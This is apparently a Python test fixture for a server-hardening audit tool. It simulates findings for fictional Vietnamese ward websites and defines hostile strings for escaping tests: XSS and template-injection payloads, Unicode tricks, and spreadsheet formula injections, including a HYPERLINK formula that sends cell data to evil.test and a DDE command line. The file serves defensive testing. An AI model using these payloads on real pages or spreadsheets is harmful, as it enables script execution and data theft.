"""A run as an audit would give it: four sites of four fictional wards on three hosts, with as many weaknesses as
old servers have, and texts that a hostile host would send. No host is needed."""

from __future__ import annotations

import datetime
import hashlib
from collections.abc import Iterable
from dataclasses import replace
from functools import cache
from itertools import cycle
from typing import Any

from auditor.audit.controls import Catalogue, Control
from auditor.models import (
    Evidence,
    Finding,
    Host,
    HostOutcome,
    Organisation,
    Run,
    Severity,
    Site,
    Status,
    Subject,
    Text,
    Unit,
    clock,
)
from auditor.models.incidents import FindingReference, OpenedEvent
from auditor.models.ranks import Regime

STARTED = "2026-11-23T08:30:00+07:00"
NOW = int(datetime.datetime.fromisoformat(STARTED).timestamp())
DAY = 86_400

NASTY: tuple[str, ...] = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "</style></title></script><iframe src=javascript:alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:document.title='owned'",
    "]]><!-- &amp; &#x3C;b&#x3E; \x00\x07\x1b[2J",
    "gọn\u202eexe.txt\u2066\u200b\ufeff",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\ud800 lone \udfff",
    "\u2028\u2029\x85\r\n\tline ends",
    "/" + "a" * 5000,
)
"""What a hostile host may send anywhere."""

FORMULAS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "−1+1",
    '"=1+1',
    "'=1+1",
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    "x;=1+1",
    'x;""=1+1',
    "x\n=1+1",
    "{=1+1}",
    "http://evil.test/",
)
"""What a spreadsheet would calculate, run or open, were it put into a cell as it is."""

# fmt: off
# id, subject, severity, title vi, title en, problem vi, problem en
_TITLES: tuple[tuple[str, str, str, str, str, str, str], ...] = (
    ("ssh.root_by_password", "host", "critical", "Root không đăng nhập SSH bằng mật khẩu", "Root cannot log in over SSH with a password",
     "Root đăng nhập SSH được bằng mật khẩu", "Root can log in over SSH with a password"),
    ("ssh.password_authentication", "host", "high", "SSH chỉ nhận khóa, không nhận mật khẩu", "SSH takes keys only, no passwords",
     "SSH nhận đăng nhập bằng mật khẩu", "SSH takes passwords"),
    ("ssh.failed_attempts", "host", "medium", "SSH ngắt kết nối sau 4 lần đăng nhập sai", "SSH disconnects after 4 failed attempts",
     "SSH cho thử sai quá 4 lần trong một kết nối", "SSH allows more than 4 failed attempts"),
    ("ssh.idle_timeout", "host", "medium", "Phiên SSH không thao tác được đóng lại", "Idle SSH sessions are closed",
     "Phiên SSH không thao tác vẫn mở", "Idle SSH sessions stay open"),
    ("ssh.weak_algorithms", "host", "high", "SSH không dùng thuật toán mã hóa yếu", "SSH offers no weak algorithms",
     "SSH còn dùng thuật toán mã hóa yếu", "SSH offers weak algorithms"),
    ("ssh.forwarding", "host", "low", "SSH không chuyển tiếp X11 và cổng", "SSH forwards neither X11 nor ports",
     "SSH chuyển tiếp X11 hoặc cổng", "SSH forwards X11 or ports"),
    ("firewall.closed_ports", "host", "high", "Tường lửa chặn mọi kết nối vào chưa được phép", "The firewall drops what is not allowed in",
     "Tường lửa để lọt kết nối chưa được phép", "The firewall lets in what is not allowed"),
    ("firewall.persistent", "host", "medium", "Luật tường lửa còn nguyên sau khi khởi động lại", "Firewall rules survive a reboot",
     "Luật tường lửa mất sau khi khởi động lại", "Firewall rules are lost at a reboot"),
    ("firewall.ssh_networks", "host", "medium", "Chỉ mạng tin cậy được kết nối SSH", "Only trusted networks reach SSH",
     "Mạng ngoài danh sách tin cậy kết nối được SSH", "Other networks than the trusted ones reach SSH"),
    ("accounts.stale_admin", "host", "critical", "Không còn tài khoản quản trị ngoài danh sách đã khai báo", "No administrator accounts beyond the declared ones",
     "Có tài khoản quản trị ngoài danh sách đã khai báo", "There are administrator accounts that nobody declared"),
    ("accounts.no_password", "host", "critical", "Không tài khoản nào để trống mật khẩu", "No account has an empty password",
     "Có tài khoản để trống mật khẩu", "An account has an empty password"),
    ("accounts.uid_zero", "host", "critical", "Chỉ root có quyền tối cao (UID 0)", "Only root has UID 0",
     "Tài khoản khác root có quyền tối cao (UID 0)", "Another account than root has UID 0"),
    ("accounts.unused", "host", "medium", "Tài khoản không hoạt động trên 45 ngày bị khóa", "Accounts unused for 45 days are locked",
     "Tài khoản không hoạt động trên 45 ngày chưa bị khóa", "Accounts unused for 45 days are not locked"),
    ("accounts.shell", "host", "low", "Tài khoản dịch vụ không có shell đăng nhập", "Service accounts have no login shell",
     "Tài khoản dịch vụ có shell đăng nhập", "Service accounts have a login shell"),
    ("pam.password_quality", "host", "medium", "Mật khẩu mới có ít nhất 14 ký tự", "New passwords have at least 14 characters",
     "Mật khẩu mới được ngắn hơn 14 ký tự", "New passwords may be shorter than 14 characters"),
    ("pam.lockout", "host", "medium", "Khóa tài khoản khi nhập sai mật khẩu nhiều lần", "Accounts lock after repeated wrong passwords",
     "Nhập sai mật khẩu nhiều lần không bị khóa", "Repeated wrong passwords lock nothing"),
    ("pam.reuse", "host", "low", "Không dùng lại 10 mật khẩu gần nhất", "The last 10 passwords are not reused",
     "Dùng lại được mật khẩu cũ", "Old passwords can be used again"),
    ("sudo.without_password", "host", "high", "Chỉ tài khoản tự động hóa được dùng sudo không mật khẩu", "Only the automation account uses sudo without a password",
     "Tài khoản ngoài tài khoản tự động hóa dùng được sudo không mật khẩu", "Others than the automation account use sudo without a password"),
    ("sudo.log", "host", "low", "Lệnh sudo được ghi nhật ký", "Sudo commands are logged",
     "Lệnh sudo không được ghi nhật ký", "Sudo commands are not logged"),
    ("updates.pending_security", "host", "high", "Không còn bản vá bảo mật nào chưa cài", "No security update is waiting",
     "Còn bản vá bảo mật chưa cài", "Security updates are waiting"),
    ("updates.by_themselves", "host", "medium", "Bản vá bảo mật được cài tự động", "Security updates install themselves",
     "Bản vá bảo mật không được cài tự động", "Security updates do not install themselves"),
    ("updates.supported_release", "host", "critical", "Hệ điều hành còn được hỗ trợ", "The operating system is supported",
     "Hệ điều hành không còn được hỗ trợ", "The operating system is no longer supported"),
    ("updates.reboot_needed", "host", "medium", "Không chờ khởi động lại để nhận hạt nhân (kernel) mới", "No reboot is pending for a new kernel",
     "Chờ khởi động lại để nhận hạt nhân (kernel) mới", "A reboot is pending for a new kernel"),
    ("time.in_step", "host", "medium", "Đồng hồ đồng bộ với máy chủ thời gian", "The clock is synchronised",
     "Đồng hồ không đồng bộ với máy chủ thời gian", "The clock is not synchronised"),
    ("logging.a_month", "host", "medium", "Nhật ký hệ thống lưu ít nhất 1 tháng", "System logs are kept for at least a month",
     "Nhật ký hệ thống lưu chưa đủ 1 tháng", "System logs are kept for less than a month"),
    ("logging.after_reboot", "host", "medium", "Nhật ký còn nguyên sau khi khởi động lại", "Logs survive a reboot",
     "Nhật ký mất sau khi khởi động lại", "Logs are lost at a reboot"),
    ("logging.trace", "host", "low", "Thay đổi tài khoản và cấu hình được ghi vết", "Changes to accounts and settings leave a trace",
     "Thay đổi tài khoản và cấu hình không được ghi vết", "Changes to accounts and settings leave no trace"),
    ("services.network", "host", "medium", "Không chạy dịch vụ mạng không dùng tới", "No unneeded network services run",
     "Chạy dịch vụ mạng không dùng tới", "Unneeded network services run"),
    ("services.apparmor", "host", "low", "AppArmor được bật cho dịch vụ web", "AppArmor confines the web services",
     "AppArmor chưa được bật cho dịch vụ web", "AppArmor does not confine the web services"),
    ("mariadb.test_access", "host", "medium", "Cơ sở dữ liệu test đã bỏ quyền truy cập", "Nobody may use the test database",
     "Cơ sở dữ liệu test ai cũng truy cập được", "Anybody may use the test database"),
    ("mariadb.any_host_user", "host", "high", "Không tài khoản cơ sở dữ liệu nào đăng nhập được từ mọi nơi", "No database account may log in from anywhere",
     "Có tài khoản cơ sở dữ liệu đăng nhập được từ mọi nơi", "A database account may log in from anywhere"),
    ("mariadb.listens_locally", "host", "high", "MariaDB chỉ nghe trong máy", "MariaDB listens on the machine itself only",
     "MariaDB nghe cả ngoài máy", "MariaDB listens on the network"),
    ("mariadb.anonymous", "host", "high", "Không có tài khoản cơ sở dữ liệu vô danh", "There is no anonymous database account",
     "Có tài khoản cơ sở dữ liệu vô danh", "There is an anonymous database account"),
    ("mariadb.client_files", "host", "medium", "MariaDB không đọc tệp của máy khách", "MariaDB does not load clients' files",
     "MariaDB đọc được tệp của máy khách", "MariaDB loads clients' files"),
    ("nginx.version_shown", "host", "low", "nginx không lộ số phiên bản", "nginx does not tell its version",
     "nginx để lộ số phiên bản", "nginx tells its version"),
    ("nginx.catch_all", "host", "medium", "Tên miền lạ không được phục vụ", "Unknown names are not served",
     "Tên miền lạ vẫn được phục vụ", "Unknown names are served"),
    ("nginx.tls_protocols", "host", "high", "Chỉ dùng TLS 1.2 và 1.3", "Only TLS 1.2 and 1.3 are offered",
     "Còn dùng TLS cũ hơn 1.2", "TLS older than 1.2 is offered"),
    ("apache.version_shown", "host", "low", "Apache không lộ số phiên bản", "Apache does not tell its version",
     "Apache để lộ số phiên bản", "Apache tells its version"),
    ("apache.unneeded_modules", "host", "medium", "Apache không nạp mô-đun không dùng tới", "Apache loads no unneeded modules",
     "Apache nạp mô-đun không dùng tới", "Apache loads unneeded modules"),
    ("php_fpm.version_shown", "host", "low", "PHP không tự giới thiệu phiên bản", "PHP does not announce its version",
     "PHP tự giới thiệu phiên bản", "PHP announces its version"),
    ("php_fpm.errors_shown", "host", "medium", "Lỗi PHP không hiện cho người xem", "PHP errors are not shown to visitors",
     "Lỗi PHP hiện cho người xem", "PHP errors are shown to visitors"),
    ("php_fpm.allow_url_include", "host", "high", "PHP không nạp mã từ địa chỉ bên ngoài", "PHP does not include code from elsewhere",
     "PHP nạp được mã từ địa chỉ bên ngoài", "PHP includes code from elsewhere"),
    ("backup.tested_restore", "host", "high", "Đã thử khôi phục từ bản sao lưu trong năm nay", "A restore was tried this year",
     "Chưa thử khôi phục từ bản sao lưu trong năm nay", "No restore was tried this year"),
    ("tls.certificate_in_date", "site", "critical", "Chứng chỉ còn hạn và đúng tên miền", "The certificate is valid and names the site",
     "Chứng chỉ hết hạn hoặc không đúng tên miền", "The certificate has expired or does not name the site"),
    ("tls.https_only", "site", "high", "Mọi truy cập được chuyển sang HTTPS", "All visits are sent to HTTPS",
     "Truy cập không được chuyển sang HTTPS", "Visits are not sent to HTTPS"),
    ("tls.https_remembered", "site", "low", "Trình duyệt được yêu cầu chỉ dùng HTTPS", "Browsers are told to use HTTPS only",
     "Trình duyệt không được yêu cầu chỉ dùng HTTPS", "Browsers are not told to use HTTPS only"),
    ("tls.private_key", "site", "high", "Khóa riêng của chứng chỉ chỉ root đọc được", "Only root reads the certificate's private key",
     "Tài khoản khác root đọc được khóa riêng của chứng chỉ", "Others than root read the certificate's private key"),
    ("backup.recent", "site", "high", "Có bản sao lưu trong 7 ngày gần nhất", "There is a backup from the last 7 days",
     "Không có bản sao lưu nào trong 7 ngày gần nhất", "There is no backup from the last 7 days"),
    ("backup.offsite", "site", "medium", "Bản sao lưu được cất ở nơi khác", "Backups are kept elsewhere too",
     "Bản sao lưu không được cất ở nơi khác", "Backups are kept nowhere else"),
    ("web.version_control", "site", "critical", "Không lộ thư mục mã nguồn (.git, .svn)", "No version control folder is exposed",
     "Lộ thư mục mã nguồn (.git, .svn)", "A version control folder is exposed"),
    ("web.directory_listing", "site", "medium", "Không liệt kê nội dung thư mục", "Folders are not listed",
     "Nội dung thư mục bị liệt kê", "Folders are listed"),
    ("web.leftover_files", "site", "high", "Không còn tệp sao lưu, kết xuất dữ liệu trong thư mục web", "No backups or dumps lie below the web root",
     "Còn tệp sao lưu, kết xuất dữ liệu trong thư mục web", "Backups or dumps lie below the web root"),
    ("web.writable_by_all", "site", "high", "Không tệp nào trong thư mục web ai cũng ghi được", "Nothing below the web root is writable by everybody",
     "Có tệp trong thư mục web ai cũng ghi được", "Something below the web root is writable by everybody"),
    ("web.executable_uploads", "site", "critical", "Thư mục tải lên không chạy được PHP", "PHP does not run in upload folders",
     "Thư mục tải lên chạy được PHP", "PHP runs in upload folders"),
    ("web.headers", "site", "low", "Có các tiêu đề bảo vệ trình duyệt", "The protective headers are sent",
     "Thiếu các tiêu đề bảo vệ trình duyệt", "The protective headers are missing"),
    ("wordpress.config_mode", "site", "critical", "Chỉ ứng dụng đọc được wp-config.php", "Only the application reads wp-config.php",
     "Tài khoản khác đọc được wp-config.php", "Others than the application read wp-config.php"),
    ("wordpress.debugging", "site", "medium", "WordPress không bật chế độ gỡ lỗi", "WordPress debugging is off",
     "WordPress đang bật chế độ gỡ lỗi", "WordPress debugging is on"),
    ("wordpress.file_editor", "site", "medium", "Không sửa mã được từ trang quản trị WordPress", "Code cannot be edited from the WordPress admin",
     "Sửa mã được từ trang quản trị WordPress", "Code can be edited from the WordPress admin"),
    ("wordpress.core_version", "site", "high", "WordPress là phiên bản còn được vá", "WordPress is a supported version",
     "WordPress là phiên bản không còn được vá", "WordPress is no longer a supported version"),
    ("wordpress.remote_calls", "site", "low", "xmlrpc.php đã đóng", "xmlrpc.php is closed",
     "xmlrpc.php còn mở", "xmlrpc.php is open"),
    ("php_fpm.own_pool", "site", "medium", "Trang chạy bằng tài khoản riêng", "The site runs under an account of its own",
     "Trang chạy chung tài khoản với trang khác", "The site shares its account with others"),
    ("php_fpm.own_folders", "site", "medium", "PHP chỉ đọc được tệp của trang", "PHP reads only the site's files",
     "PHP đọc được tệp ngoài trang", "PHP reads files beyond the site's"),
    ("web.admin_networks", "site", "medium", "Trang quản trị chỉ mở cho mạng của cơ quan", "The admin pages are open to the office's network only",
     "Trang quản trị mở cho mọi mạng", "The admin pages are open to every network"),
    ("web.content_owner", "site", "low", "Có người chịu trách nhiệm nội dung", "Somebody answers for the content",
     "Không có người chịu trách nhiệm nội dung", "Nobody answers for the content"),
)
# fmt: on
_KEYS = (
    "net.ipv4.conf.all.rp_filter",
    "net.ipv4.conf.all.accept_redirects",
    "net.ipv4.conf.all.send_redirects",
    "net.ipv4.conf.all.accept_source_route",
    "net.ipv4.conf.all.log_martians",
    "net.ipv4.tcp_syncookies",
    "net.ipv4.icmp_echo_ignore_broadcasts",
    "net.ipv6.conf.all.accept_redirects",
    "net.ipv6.conf.all.accept_ra",
    "kernel.randomize_va_space",
    "kernel.kptr_restrict",
    "kernel.dmesg_restrict",
    "kernel.yama.ptrace_scope",
    "kernel.unprivileged_bpf_disabled",
    "fs.protected_hardlinks",
    "fs.protected_symlinks",
    "fs.protected_fifos",
    "fs.protected_regular",
    "fs.suid_dumpable",
)  # fmt: skip
_PATHS = (
    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/ssh/sshd_config", "/etc/crontab", "/etc/cron.d",
    "/etc/cron.daily", "/etc/sudoers", "/boot/grub/grub.cfg", "/etc/mysql", "/etc/nginx", "/etc/apache2",
    "/var/log", "/root",
)  # fmt: skip
_MOUNTS = ("/tmp", "/var/tmp", "/dev/shm", "/home", "/var/log")  # noqa: S108

_RATIONALE = {
    "ssh": Text(
        vi="Máy dò mật khẩu thử cửa SSH của mọi máy chủ suốt ngày đêm. Vào được bằng cửa này là làm chủ mọi trang trên máy.",
        en="Password guessers try the SSH door of every server day and night. Whoever gets in owns every site on it.",
    ),
    "web": Text(
        vi="Kẻ xấu tìm đúng những tệp này để lấy mật khẩu cơ sở dữ liệu rồi chèn nội dung cờ bạc vào trang của cơ quan.",
        en="Attackers look for these very files to take the database password and put gambling content on the office's site.",
    ),
    "": Text(
        vi="Cấu hình mặc định để mở nhiều hơn mức một trang của cơ quan cần. Đóng lại thì một lỗi ở nơi khác khó lan rộng.",
        en="The default leaves more open than an office's site needs. Closed, a fault elsewhere does not spread as easily.",
    ),
}
_REMEDY = {
    True: Text(
        vi="Ghi cấu hình chặt hơn vào một tệp riêng, thử bằng chính phần mềm rồi nạp lại.",
        en="Writes the stricter setting to a file of its own, has the program test it, and reloads.",
    ),
    False: Text(
        vi="Người phụ trách hệ thống kiểm tra từng chỗ nêu trên, sửa, rồi rà soát lại.",
        en="The person in charge looks at each place named above, mends it, and audits again.",
    ),
}
_BY_HAND = frozenset({
    "accounts.stale_admin", "updates.supported_release", "backup.tested_restore", "backup.recent", "backup.offsite",
    "tls.certificate_in_date", "web.leftover_files", "wordpress.core_version", "web.content_owner", "updates.reboot_needed",
})  # fmt: skip
_MANUAL = frozenset({"backup.tested_restore", "web.content_owner"})
_CONTAINER = Text(vi="máy ảo dạng container không tự đặt được", en="a container cannot set this")


@cache
def catalogue() -> Catalogue:
    """About a hundred controls."""
    told = [(*entry, None) for entry in _TITLES]
    told += [
        (f"kernel.{key.replace('.', '_')}", "host", "low" if "log" in key else "medium",
         f"Hạt nhân (kernel) đặt {key} ở mức chặt", f"The kernel has {key} set strictly",
         f"Hạt nhân (kernel) đặt {key} chưa đủ chặt", f"The kernel has {key} set loosely", _CONTAINER if not key.startswith("net") else None)
        for key in _KEYS
    ]  # fmt: skip
    told += [
        (f"filesystem.{path.strip('/').replace('/', '_').replace('.', '_')}", "host", "high" if "shadow" in path else "medium",
         f"{path} đúng chủ và đúng quyền", f"{path} has the right owner and mode",
         f"{path} sai chủ hoặc sai quyền", f"{path} has a wrong owner or mode", None)
        for path in _PATHS
    ]  # fmt: skip
    told += [
        (f"filesystem.mount{path.replace('/', '_')}", "host", "low",
         f"{path} không cho chạy chương trình", f"Programs do not run from {path}",
         f"{path} cho chạy chương trình", f"Programs run from {path}", _CONTAINER)
        for path in _MOUNTS
    ]  # fmt: skip
    return Catalogue(controls=tuple(_control(*entry) for entry in told))


def _control(
    control: str, subject: Any, severity: str, vi: str, en: str, wrong_vi: str, wrong_en: str, container: Text | None
) -> Control:
    area = control.split(".")[0]
    automated = control not in _BY_HAND
    return Control.model_validate(
        {
            "id": control,
            "title": Text(vi=vi, en=en),
            "problem": Text(vi=wrong_vi, en=wrong_en),
            "rationale": _RATIONALE.get(area, _RATIONALE["web" if area == "wordpress" else ""]),
            "remedy": _REMEDY[automated],
            "severity": severity,
            "subject": subject,
            "container": container,
            **({"manual": True} if control in _MANUAL else {"that": "true"}),
            "fix": {
                "touches": [f"/etc/{area}/"],
                "disruption": "restart" if area == "mariadb" else "reload",
                "danger": _DANGER.get(control),
            }
            if automated
            else None,
            "references": {
                "tcvn14423": {"l1": ["3.5.2.1 a"], "l2": ["4.5.2.1 b"]},
                "tcvn11930": {"l2": ["6.2.2.4"], "l3": ["7.2.2.4 c"]},
                "nd331": ["30.4.b"],
                "cis_debian13": ["5.1.17"],
                "cis_nginx": [],
                "anssi_bp028": ["R31"],
            },
        }
    )


_DANGER = {
    "ssh.password_authentication": Text(
        vi="ai chưa có khóa SSH sẽ không đăng nhập được nữa.", en="whoever has no SSH key can no longer log in."
    ),
    "tls.https_only": Text(
        vi="máy rất cũ không hỗ trợ TLS 1.2 sẽ không xem được trang.",
        en="very old machines without TLS 1.2 can no longer visit.",
    ),
}

ORGANISATION = Organisation(
    name="Ủy ban nhân dân tỉnh Tân Giang",
    units=(
        Unit(id="tinh-tan-giang", name="Ủy ban nhân dân tỉnh Tân Giang"),
        Unit(id="xa-an-truc", name="Ủy ban nhân dân xã An Trúc", parent="tinh-tan-giang"),
        Unit(id="phuong-ben-nua", name="Ủy ban nhân dân phường Bến Nứa", parent="tinh-tan-giang"),
        Unit(id="xa-dong-vau", name="Ủy ban nhân dân xã Đồng Vầu", parent="tinh-tan-giang"),
        Unit(id="xa-go-tre", name="Ủy ban nhân dân xã Gò Tre", parent="tinh-tan-giang"),
    ),
)
HOSTS = (
    Host(name="web1", address="10.213.47.11", unit="xa-an-truc", sites=(
        Site(domain="antruc.test", unit="xa-an-truc", host="web1", server="nginx", application="wordpress",
             document_root="/var/www/antruc.test"),)),
    Host(name="web2", address="10.213.47.12", unit="phuong-ben-nua", sites=(
        Site(domain="bennua.test", unit="phuong-ben-nua", host="web2", server="apache", application="own"),)),
    Host(name="web3", address="10.213.47.13", unit="tinh-tan-giang", sites=(
        Site(domain="dongvau.test", unit="xa-dong-vau", host="web3", server="nginx", application="static"),
        Site(domain="gotre.test", unit="xa-go-tre", host="web3", server="nginx", application="static"),)),
)  # fmt: skip
_OS = {
    "web1": "Debian GNU/Linux 13 (trixie)",
    "web2": "Debian GNU/Linux 12 (bookworm)",
    "web3": "Debian GNU/Linux 13 (trixie)",
}
_CERTIFICATE = {"antruc.test": 61, "bennua.test": -34, "dongvau.test": 12, "gotre.test": 300}
_BACKUP = {"antruc.test": 134, "bennua.test": 2, "dongvau.test": 0}
_REFUSED = Text(
    vi="cổng SSH từ chối kết nối: dịch vụ ssh có đang chạy không?", en="the SSH port refuses: is sshd running?"
)


def opening(
    subjects: Iterable[str],
    findings: Iterable[FindingReference],
    detected_at: datetime.datetime,
    regime: Regime,
    why: str | None,
) -> OpenedEvent:
    """An incident that begins."""
    return OpenedEvent(
        detected=clock.format_iso_moment(detected_at),
        subjects=tuple(subjects),
        findings=tuple(findings),
        regime=regime,
        why=why,
    )


def run(
    *,
    hardened: bool = False,
    unreachable: Iterable[str] = (),
    nasty: Iterable[str] = (),
    clean: bool = False,
    started: str = STARTED,
    run_id: str = "20261123T083000-4f1a",
    hosts: tuple[Host, ...] = HOSTS,
) -> Run:
    """A run. ``hardened``: what harden mends passes; ``clean``: all that was evaluated passes; ``nasty``: strings from the hosts."""
    return _run(hardened, frozenset(unreachable), tuple(nasty), clean, started, run_id, hosts)


@cache
def _run(
    hardened: bool,
    down: frozenset[str],
    strings: tuple[str, ...],
    clean: bool,
    started: str,
    run_id: str,
    hosts: tuple[Host, ...],
) -> Run:
    findings = [
        _finding(
            control, Subject(kind=control.subject, id=subject), host.name, hardened, clean, host.name in down, strings
        )
        for host in hosts
        for control in catalogue().controls
        for subject in ([host.name] if control.subject == "host" else [site.domain for site in host.sites])
    ]
    return Run(
        id=run_id,
        started=started,
        seconds=4.7,
        version="0.1.0",
        inventory="inventories/lab",
        purpose="after" if hardened else "audit",
        hosts=hosts,
        outcomes=tuple(
            HostOutcome(
                host=host.name,
                reached=host.name not in down,
                reason=_REFUSED if host.name in down else None,
                seconds=0.0 if host.name in down else 1.4,
                os=None if host.name in down else (strings[0] if strings else _OS.get(host.name)),
                area_errors={"mariadb": strings[-1]} if strings else {},
            )
            for host in hosts
        ),
        findings=tuple(findings),
        organisation=ORGANISATION,
    )


def run_with_members(members: Iterable[Any]) -> Run:
    """A run whose open findings have one violating member each, taken in turn from ``members``."""
    ordinary, turn = run(), cycle(members)
    findings = (replace(f, violations=(next(turn),)) if f.status.is_open else f for f in ordinary.findings)
    return ordinary.model_copy(update={"findings": tuple(findings)})


def _finding(
    control: Control, subject: Subject, host: str, hardened: bool, clean: bool, down: bool, nasty: tuple[str, ...]
) -> Finding:
    base: dict[str, Any] = {"control": control.id, "subject": subject, "host": host, "severity": control.severity}
    if down:
        return Finding(**base, status=Status.NOT_EVALUATED, reason=_REFUSED)
    if control.manual:
        return Finding(
            **base,
            status=Status.MANUAL,
            reason=Text(vi="cần người có thẩm quyền xác nhận", en="needs confirmation by a person"),
        )
    if control.container:
        return Finding(**base, status=Status.NOT_APPLICABLE, reason=control.container)
    absent = {
        "apache": "web2",
        "nginx": "web1 web3",
        "wordpress": "antruc.test",
        "php_fpm": "web1 web2 antruc.test bennua.test",
        "mariadb": "web1 web2",
    }
    if control.area in absent and subject.id not in absent[control.area].split():
        return Finding(
            **base, status=Status.NOT_APPLICABLE, reason=Text(vi="không có trên máy chủ này", en="not present here")
        )
    status = _drawn(control, subject)
    if (clean or (hardened and control.fix)) and status is not Status.NOT_EVALUATED:
        status = Status.PASS
    if status is Status.NOT_EVALUATED:
        why = nasty[-1] if nasty else "mysqladmin: connect to server failed"
        return Finding(
            **base,
            status=status,
            reason=Text(vi=f"không đọc được nhóm {control.area}: {why}", en=f"could not read {control.area}: {why}"),
        )
    violations = _violations(control, subject, nasty) if status.is_open else ()
    return Finding(
        **base,
        status=status,
        evidence=_evidence(control, subject, status, nasty),
        violations=violations,
        population=len(violations) + 9 if status is Status.PARTIAL else None,
    )


def _drawn(control: Control, subject: Subject) -> Status:
    if control.id == "tls.certificate_in_date":
        return Status.PASS if _CERTIFICATE.get(subject.id, 90) > 0 else Status.FAIL
    if control.id == "backup.recent":
        return Status.PASS if _BACKUP.get(subject.id, 999) <= 7 else Status.FAIL
    draw = hashlib.sha256(f"{control.id} {subject.id}".encode()).digest()[0]
    if control.id in ("ssh.root_by_password", "firewall.closed_ports", "ssh.password_authentication"):
        return Status.FAIL
    if draw < 8:
        return Status.NOT_EVALUATED
    threshold = {Severity.CRITICAL: 70, Severity.HIGH: 90, Severity.MEDIUM: 120, Severity.LOW: 130}[control.severity]
    if subject.id == "gotre.test":
        threshold //= 3
    return Status.PASS if draw > threshold else Status.PARTIAL if draw % 5 == 0 else Status.FAIL


def _evidence(control: Control, subject: Subject, status: Status, nasty: tuple[str, ...]) -> tuple[Evidence, ...]:
    told = [Evidence(path=f"{control.area}.hostile.{index}", value=text) for index, text in enumerate(nasty)]
    if control.id == "tls.certificate_in_date" and subject.id in _CERTIFICATE:
        told += [
            Evidence(path="site.certificate.not_after", value=NOW + _CERTIFICATE[subject.id] * DAY + 3600),
            Evidence(path="site.certificate.names", value=[subject.id, f"www.{subject.id}"]),
            Evidence(path="now", value=NOW),
        ]
    elif control.id == "backup.recent":
        if subject.id in _BACKUP:
            told.append(Evidence(path="site.backup.newest", value=NOW - _BACKUP[subject.id] * DAY - 3600))
        told.append(Evidence(path="site.backup_max_days", value=7))
    elif control.id == "ssh.root_by_password":
        told.append(Evidence(path="ssh.effective.permitrootlogin", value="no" if status is Status.PASS else "yes"))
        told.append(Evidence(path="ssh.effective.passwordauthentication", value=status is not Status.PASS))
    elif control.id.startswith("filesystem."):
        told.append(Evidence(path="filesystem.files.mode", value=0o644 if status is Status.PASS else 0o666))
    else:
        name = control.id.split(".")[1]
        told.append(Evidence(path=f"{control.area}.effective.{name}", value="on" if status is Status.PASS else "off"))
    return tuple(told)


def _violations(control: Control, subject: Subject, nasty: tuple[str, ...]) -> tuple[Any, ...]:
    name = subject.id
    members: dict[str, list[Any]] = {
        "web.writable_by_all": [
            {
                "path": f"/var/www/{name}/wp-content/uploads/2026/{n:02}/anh-hoi-nghi-{n}.jpg",
                "owner": "www-data",
                "group": "www-data",
                "mode": 0o666,
            }
            for n in range(1, 13)
        ],
        "web.leftover_files": [
            {"path": f"/var/www/{name}/backup/{name}-2024.sql.gz", "size": 48_213_901},
            {"path": f"/var/www/{name}/index.php.bak", "size": 3_412},
        ],
        "accounts.stale_admin": [
            {"name": "congtyweb", "uid": 1003, "groups": ["sudo", "www-data"], "last_login": None},
            {"name": "quantri_cu", "uid": 1004, "groups": ["sudo"], "last_login": "2023-04-11"},
        ],
        "services.network": ["rpcbind.service (0.0.0.0:111)", "vsftpd.service (0.0.0.0:21)"],
        "updates.pending_security": [
            {"package": "openssl", "installed": "3.5.1-1", "available": "3.5.1-1+deb13u1"},
            {"package": "nginx", "installed": "1.26.3-3", "available": "1.26.3-3+deb13u1"},
        ],
    }
    hostile = [{"path": text, "owner": text, "mode": 0o777, text[:40]: text} for text in nasty]
    return tuple(members.get(control.id, []) + hostile)


__all__ = [
    "DAY",
    "FORMULAS",
    "HOSTS",
    "NASTY",
    "NOW",
    "ORGANISATION",
    "STARTED",
    "catalogue",
    "run",
    "run_with_members",
]
